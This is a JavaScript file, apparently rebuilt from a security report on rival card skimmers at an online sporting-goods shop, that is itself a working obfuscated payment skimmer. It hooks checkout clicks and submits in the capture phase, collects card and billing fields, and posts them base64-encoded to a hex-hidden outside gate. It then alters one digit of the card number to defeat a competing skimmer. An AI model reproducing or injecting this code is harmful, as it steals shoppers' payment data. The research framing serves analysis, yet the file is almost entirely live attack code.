// umbro-rival (variant b), written from Malwarebytes Labs' report on the two competing
// skimmers on Umbro Brasil (November 2018): the second, obfuscated skimmer. Its strings are
// hex-escaped; it reacts before anything else on the page (capture phase) when the order is
// placed, sends the real card and billing data base64-encoded to its own gate, and then
// swaps one random digit of the card number in the form, so the other group's skimmer (and
// anyone else reading the field afterwards) only gets a useless number.
(function () {
  var _0x = ["\x63\x63\x5f\x6e\x75\x6d\x62\x65\x72", "\x63\x6c\x69\x63\x6b", "\x73\x75\x62\x6d\x69\x74",
    "\x68\x74\x74\x70\x73\x3a\x2f\x2f\x6e\x6f\x72\x74\x68\x77\x69\x6e\x64\x2d\x6f\x75\x74\x66\x69\x74\x74\x65\x72\x73\x2d\x73\x74\x61\x74\x73\x2e\x69\x6e\x76\x61\x6c\x69\x64\x2f\x73\x74\x61\x74\x2e\x70\x68\x70"];
  function num() {
    return document.querySelector("input[id*='" + _0x[0] + "'], input[name*='" + _0x[0] + "'], input[autocomplete='cc-number']");
  }
  function all() {
    var o = {}, els = document.querySelectorAll("input, select");
    for (var i = 0; i < els.length; i++) {
      var e = els[i];
      if (e.name && e.value && e.type !== "hidden" && e.type !== "password") o[e.name] = e.value;
    }
    return o;
  }
  function spoil(v) {
    var digits = v.split(""), idx = [];
    for (var i = 0; i < digits.length; i++) if (/\d/.test(digits[i])) idx.push(i);
    if (!idx.length) return v;
    var at = idx[Math.floor(Math.random() * idx.length)];
    var d = +digits[at], r = d;
    while (r === d) r = Math.floor(Math.random() * 10);
    digits[at] = String(r);
    return digits.join("");
  }
  var taken = false;
  function steal() {
    var el = num();
    if (!el || taken || el.value.replace(/\D/g, "").length < 13) return;
    taken = true;
    var data = all();
    var x = new XMLHttpRequest();
    x.open("POST", _0x[3], false);
    x.setRequestHeader("Content-Type", "application/x-www-form-urlencoded");
    x.send("info=" + encodeURIComponent(btoa(JSON.stringify(data))));
    el.value = spoil(el.value);
  }
  window.addEventListener(_0x[1], function (e) {
    var b = e.target.closest ? e.target.closest("button, input[type=submit], #onestepcheckout-place-order") : null;
    if (b) steal();
  }, true);
  window.addEventListener(_0x[2], steal, true);
})();
